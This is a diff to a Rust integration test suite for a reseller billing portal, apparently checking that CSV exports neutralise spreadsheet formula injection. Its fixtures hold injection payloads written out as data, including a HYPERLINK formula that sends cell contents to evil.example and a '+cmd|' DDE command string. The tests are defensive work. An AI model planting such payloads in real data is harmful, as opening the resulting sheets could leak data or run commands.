@@ -4,8 +4,9 @@
 
 use chrono::{DateTime, Utc};
 
+use crate::api_client::Api;
 use crate::helpers::{
-    CONTOSO, NORTHWIND, Page, TestApp, add_licenses, details, portal_command, spawn_app,
+    CONTOSO, NORTHWIND, Page, TestApp, add_licenses, details, load_book, portal_command, spawn_app,
     spawn_app_with,
 };
 
@@ -50,7 +51,7 @@ fn rows(page: &Page, header: &str) -> Vec<Vec<String>> {
 }
 
 /// One column of every row of a query, in its order.
-async fn column(app: &TestApp, sql: &str) -> Vec<String> {
+pub(crate) async fn column(app: &TestApp, sql: &str) -> Vec<String> {
     use sea_orm::{ConnectionTrait, Statement};
     app.db
         .query_all_raw(Statement::from_string(
@@ -536,4 +537,287 @@ async fn a_book_larger_than_a_batch_exports_every_row_once_in_order() {
         )
         .await
     );
+}
+
+/// OWASP's list of what a cell that a spreadsheet runs as a formula begins with.
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// Every cell of a downloaded file as a spreadsheet reads it: none begins a formula, except a
+/// plain number (`-165.00`), which a spreadsheet reads as that number.
+#[track_caller]
+fn assert_no_formula(file: &str, records: &[Vec<String>]) {
+    for record in records {
+        for cell in record {
+            let number = cell.strip_prefix('-').is_some_and(|n| {
+                n.split('.').count() <= 2
+                    && n.split('.')
+                        .all(|part| !part.is_empty() && part.bytes().all(|b| b.is_ascii_digit()))
+            });
+            assert!(
+                !cell.starts_with(FORMULA_STARTS) || number,
+                "{file}: {cell:?} would run as a formula: {record:?}"
+            );
+        }
+    }
+}
+
+/// The record of `records` whose column `at` is `value`.
+#[track_caller]
+fn record<'a>(records: &'a [Vec<String>], at: usize, value: &str) -> &'a Vec<String> {
+    records
+        .iter()
+        .find(|r| r[at] == value)
+        .unwrap_or_else(|| panic!("no {value:?} in column {at} of {records:?}"))
+}
+
+const CHARGES_HEADER: &str = "CustomerId,CustomerName,DomainName,SubscriptionId,SubscriptionName,OfferId,OfferName,ChargeType,ChargeStartDate,ChargeEndDate,Quantity,UnitPrice,Amount,Currency";
+const RESULTS_HEADER: &str = "Subscription ID,Action,Result,Code,Message,Target subscription ID";
+
+/// A reseller whose customers, subscriptions and API token are named like formulas (as anyone
+/// who can name one may), on 20 August 2026: billing day 15, prices for E3 and E1.
+async fn formula_portal() -> TestApp {
+    let app = spawn_app_with(&[("PORTAL_CLOCK", "2026-08-20T10:00:00+08:00")]).await;
+    load_book(
+        &app,
+        r#"{
+  "resellers": [{ "id": "formula", "name": "Formula 云", "billing_day": 15,
+    "users": [{ "email": "admin@formula.example", "password": "formula-demo", "admin": true }] }],
+  "customers": [
+    { "id": "c-formula", "company_name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
+      "domain": "formula.partner.onmschina.cn",
+      "relationships": [{ "reseller": "formula", "delegated_admin": true }] },
+    { "id": "-c-minus", "company_name": "-2+3 贸易", "domain": "minus.partner.onmschina.cn",
+      "relationships": [{ "reseller": "formula", "delegated_admin": true }] }],
+  "subscriptions": [
+    { "id": "-s-minus", "customer": "c-formula", "offer": "O365_E3",
+      "friendly_name": "+cmd|' /C calc'!A0", "quantity": 15, "sold_by": "formula", "created": "2026-01-10" },
+    { "id": "s-apostrophe", "customer": "c-formula", "offer": "O365_E1",
+      "friendly_name": "'=1+2", "quantity": 5, "sold_by": "formula", "created": "2026-01-10" },
+    { "id": "s-plain", "customer": "-c-minus", "offer": "O365_E3",
+      "friendly_name": "Staff", "quantity": 3, "sold_by": "formula", "created": "2026-01-10" }
+  ]
+}"#,
+        "Offer ID,Currency,Unit Price,Valid From\nO365_E3,CNY,11,2026-01-01\nO365_E1,CNY,8,2026-01-01\n",
+    );
+    app
+}
+
+#[actix_web::test]
+async fn no_csv_holds_a_formula_and_an_edited_export_uploads_as_it_was() {
+    // Arrange: a token named like a formula makes a change through the API; a bulk file's lines
+    // name formulas instead of subscriptions.
+    let app = formula_portal().await;
+    let out = portal_command(
+        &app,
+        &[
+            "api-token",
+            "create",
+            "--user",
+            "admin@formula.example",
+            "--name",
+            "@SUM(1+1)",
+        ],
+    );
+    assert!(out.success, "{out:?}");
+    let api = Api::with_token(&app, out.stdout.trim());
+    api.patch(
+        "/v1/customers/c-formula/subscriptions/s-apostrophe",
+        &[],
+        serde_json::json!({ "quantity": 6 }),
+    )
+    .await
+    .assert_status(200);
+    app.sign_in(("admin@formula.example", "formula-demo")).await;
+    app.get("/bulk").await.assert_status(200);
+    let bad = app
+        .submit(
+            "/bulk/file",
+            &[
+                (
+                    "rows",
+                    "Subscription ID,Action\n=1+2,suspend\n@SUM(A1),suspend\n",
+                ),
+                ("file_name", "bad.csv"),
+            ],
+        )
+        .await;
+    bad.assert_status(303);
+    let job = bad.location.clone().unwrap();
+    app.get(&job).await.assert_status(200);
+    app.submit(&format!("{job}/start"), &[])
+        .await
+        .assert_redirect(&job);
+
+    // Act: every CSV the reseller can download.
+    let customers = rows(&app.get(CUSTOMERS).await, CUSTOMERS_HEADER);
+    let subscriptions_file = app.get(SUBSCRIPTIONS).await;
+    let subscriptions = rows(&subscriptions_file, SUBSCRIPTIONS_HEADER);
+    let activity = rows(&app.get(ACTIVITY).await, ACTIVITY_HEADER);
+    let charges = rows(
+        &app.get("/charges.csv?date=2026-08-15").await,
+        CHARGES_HEADER,
+    );
+    let results = rows(
+        &app.get(&format!("{job}/results.csv")).await,
+        RESULTS_HEADER,
+    );
+
+    // Assert: each name that starts a formula is written with a `'` in front; a name that
+    // already starts with `'` and a formula gets one more; numbers stay numbers.
+    for (file, records) in [
+        ("customers", &customers),
+        ("subscriptions", &subscriptions),
+        ("activity", &activity),
+        ("charges", &charges),
+        ("results", &results),
+    ] {
+        assert!(!records.is_empty(), "{file}");
+        assert_no_formula(file, records);
+    }
+    let hyperlink = "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")";
+    assert_eq!(record(&customers, 0, "c-formula")[1], hyperlink);
+    assert_eq!(record(&customers, 0, "'-c-minus")[1], "'-2+3 贸易");
+    let minus = record(&subscriptions, 2, "'-s-minus");
+    assert_eq!(minus[1], hyperlink);
+    assert_eq!(minus[3], "'+cmd|' /C calc'!A0");
+    assert_eq!(record(&subscriptions, 2, "s-apostrophe")[3], "''=1+2");
+    assert_eq!(record(&subscriptions, 2, "s-plain")[0], "'-c-minus");
+    let via_token = record(&activity, 11, "'@SUM(1+1)");
+    assert_eq!(via_token[4], hyperlink);
+    assert_eq!(via_token[6], "''=1+2");
+    let reversal = charges
+        .iter()
+        .find(|r| r[3] == "'-s-minus" && r[7] == "advance_reversal")
+        .unwrap_or_else(|| panic!("{charges:?}"));
+    assert_eq!(
+        (reversal[1].as_str(), reversal[4].as_str()),
+        (hyperlink, "'+cmd|' /C calc'!A0")
+    );
+    assert_eq!(reversal[12], "-165.00", "a credit stays a number");
+    assert_eq!(firsts(&results, 0), ["'=1+2", "'@SUM(A1)"]);
+    assert!(results.iter().all(|r| r[3] == "invalid_subscription_id"));
+
+    // Act: the subscriptions export, edited as the Bulk changes page says (an Action column, one
+    // more license each), uploaded as it is.
+    let mut reader = csv::Reader::from_reader(&subscriptions_file.body.as_bytes()[3..]);
+    let mut edited = csv::Writer::from_writer(Vec::new());
+    let mut header: Vec<String> = reader
+        .headers()
+        .unwrap()
+        .iter()
+        .map(str::to_owned)
+        .collect();
+    header.push("Action".into());
+    edited.write_record(&header).unwrap();
+    for r in reader.records() {
+        let mut r: Vec<String> = r.unwrap().iter().map(str::to_owned).collect();
+        r[6] = (r[6].parse::<u32>().unwrap() + 1).to_string();
+        r.push("licenses".into());
+        edited.write_record(&r).unwrap();
+    }
+    let edited = String::from_utf8(edited.into_inner().unwrap()).unwrap();
+    assert!(edited.contains("'-s-minus,"), "{edited}");
+    let page = app
+        .submit(
+            "/bulk/file",
+            &[("rows", &edited), ("file_name", "edited.csv")],
+        )
+        .await;
+    page.assert_status(303);
+    let job = page.location.clone().unwrap();
+
+    // Assert: each line names its subscription as the export had it before the `'`, and the
+    // changes are made.
+    let id: i32 = job.rsplit('/').next().unwrap().parse().unwrap();
+    let named = column(
+        &app,
+        &format!(
+            "SELECT subscription_id || ' ' || state FROM job_rows WHERE job_id = {id} \
+             ORDER BY subscription_id"
+        ),
+    )
+    .await;
+    assert_eq!(
+        named,
+        [
+            "-s-minus pending",
+            "s-apostrophe pending",
+            "s-plain pending"
+        ]
+    );
+    app.get(&job).await.assert_status(200);
+    app.submit(&format!("{job}/start"), &[])
+        .await
+        .assert_redirect(&job);
+    for _ in 0..300 {
+        if app
+            .count(&format!("jobs WHERE id = {id} AND state = 'done'"))
+            .await
+            == 1
+        {
+            break;
+        }
+        actix_web::rt::time::sleep(std::time::Duration::from_millis(100)).await;
+    }
+    assert_eq!(
+        column(
+            &app,
+            "SELECT id || ' ' || quantity FROM subscriptions WHERE sold_by = 'formula' ORDER BY id"
+        )
+        .await,
+        ["-s-minus 16", "s-apostrophe 7", "s-plain 4"]
+    );
+}
+
+#[actix_web::test]
+async fn the_charges_file_is_streamed_and_the_same_as_the_commands() {
+    // Arrange: a book of about a thousand subscriptions, more than one stretch of the file.
+    let app = spawn_app_with(&[("PORTAL_CLOCK", "2026-08-20T10:00:00+08:00")]).await;
+    let out = portal_command(&app, &["seed", "--customers", "120"]);
+    assert!(out.success, "{}", out.stderr);
+    app.sign_in(("admin@bigbook.example", "bigbook-demo")).await;
+    let day: u32 = app
+        .value("SELECT billing_day FROM resellers WHERE id = 'bigbook'")
+        .await
+        .unwrap()
+        .parse()
+        .unwrap();
+    let date = if day <= 20 {
+        format!("2026-08-{day:02}")
+    } else {
+        format!("2026-07-{day:02}")
+    };
+
+    // Act
+    let page = app.get(&format!("/charges.csv?date={date}")).await;
+    let out = portal_command(
+        &app,
+        &["charges", "--reseller", "bigbook", "--invoice-date", &date],
+    );
+
+    // Assert: sent as it is written (chunked, no length known up front), every subscription's
+    // lines once, and the same file as `portal charges`.
+    let records = rows(&page, CHARGES_HEADER);
+    assert_eq!(
+        page.headers
+            .get("transfer-encoding")
+            .map(|v| v.to_str().unwrap()),
+        Some("chunked"),
+        "{:?}",
+        page.headers
+    );
+    assert!(page.headers.get("content-length").is_none());
+    assert!(out.success, "{out:?}");
+    assert_eq!(page.body, out.stdout);
+    let mut subscriptions = firsts(&records, 3);
+    subscriptions.dedup();
+    let charged = subscriptions.len();
+    subscriptions.sort();
+    subscriptions.dedup();
+    assert_eq!(
+        subscriptions.len(),
+        charged,
+        "each subscription's lines together, once"
+    );
+    assert!(charged > 500, "more than one stretch: {charged}");
 }
